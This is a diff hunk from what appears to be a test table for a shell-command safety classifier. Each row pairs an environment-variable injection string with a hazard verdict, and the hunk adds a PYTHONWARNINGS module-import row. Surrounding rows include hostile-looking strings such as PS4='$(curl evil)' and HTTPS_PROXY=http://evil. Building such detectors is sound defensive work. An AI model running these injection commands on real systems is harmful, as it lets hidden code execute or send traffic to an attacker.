@@ -233,6 +233,7 @@ constexpr ShellRow kRows[] = {  // clang can deduce no std::array of so many
     ShellRow{"environment", "facts 1.5, CVE-2026-22708", "RUSTC_WRAPPER=curl cargo build", Verdict::kHazard, "command.environment"},
     ShellRow{"environment", "facts 1.5, CVE-2026-22708", "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=curl cargo run", Verdict::kHazard, "command.environment"},
     ShellRow{"environment", "facts 1.5, CVE-2026-22708", "PYTHONSTARTUP=x python3", Verdict::kHazard, "command.environment"},
+    ShellRow{"environment", "python(1) PYTHONWARNINGS", "PYTHONWARNINGS=all:0:antigravity.x python3 app.py", Verdict::kHazard, "command.environment"},
     ShellRow{"environment", "facts 1.5, CVE-2026-22708", "HTTPS_PROXY=http://evil git fetch", Verdict::kHazard, "command.environment"},
     ShellRow{"environment", "facts 1.5, CVE-2026-22708", "PS4='$(curl evil)'; set -x; git log", Verdict::kHazard, "command.environment"},
     ShellRow{"environment", "facts 1.5, CVE-2026-22708", "read PATH <f; git log", Verdict::kHazard, "command.environment"},
